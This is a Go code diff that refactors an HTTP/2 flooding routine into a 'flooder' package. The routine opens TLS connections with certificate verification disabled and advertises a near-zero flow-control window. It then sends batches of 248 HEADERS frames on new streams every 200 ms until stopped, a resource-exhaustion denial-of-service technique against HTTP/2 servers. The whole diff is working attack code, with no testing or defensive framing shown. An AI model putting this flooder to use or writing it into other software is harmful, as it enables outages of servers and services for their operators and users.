@@ -1,7 +1,6 @@
-package main
+package flooder
 
 import (
-	"crypto/tls"
 	"io"
 	"time"
 )
@@ -25,42 +24,35 @@ func literal(b []byte, name, value string) []byte {
 }
 
 // unread opens as many HTTP/2 streams as it can on one connection and takes nothing of what is
-// answered: its window is zero. It goes on until the connection or the flood ends.
-func (f *flooded) unread(from, method, path string) {
-	raw, err := f.dial(from)
+// answered: its window is zero.
+func (f *Flooder) unread(from string) {
+	c, end, err := f.secure(from, "h2")
 	if err != nil {
-		f.settle()
 		return
 	}
-	c := tls.Client(raw, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}})
-	defer c.Close()
+	defer end()
 	const window = 4 // SETTINGS_INITIAL_WINDOW_SIZE
 	begin := []byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
 	begin = frame(begin, frameSettings, 0, 0, []byte{0, window, 0, 0, 0, 0})
 	begin = frame(begin, frameSettings, flagAck, 0, nil)
 	if _, err := c.Write(begin); err != nil {
-		f.settle()
 		return
 	}
 	go io.Copy(io.Discard, c)
-	block := literal(nil, ":method", method)
+	block := literal(nil, ":method", f.Method)
 	block = literal(block, ":scheme", "https")
-	block = literal(block, ":path", path)
+	block = literal(block, ":path", f.Path)
 	block = literal(block, ":authority", "localhost")
 	for stream := uint32(1); f.ctx.Err() == nil; {
 		var many []byte
 		for range 248 {
 			many = frame(many, frameHeaders, flagEnds, stream, block)
 			stream += 2
-			f.sent.Add(1)
 		}
 		if _, err := c.Write(many); err != nil {
-			f.settle()
 			return
 		}
-		select {
-		case <-f.ctx.Done():
-		case <-time.After(200 * time.Millisecond):
-		}
+		f.sent.Add(248)
+		f.pause(200 * time.Millisecond)
 	}
 }
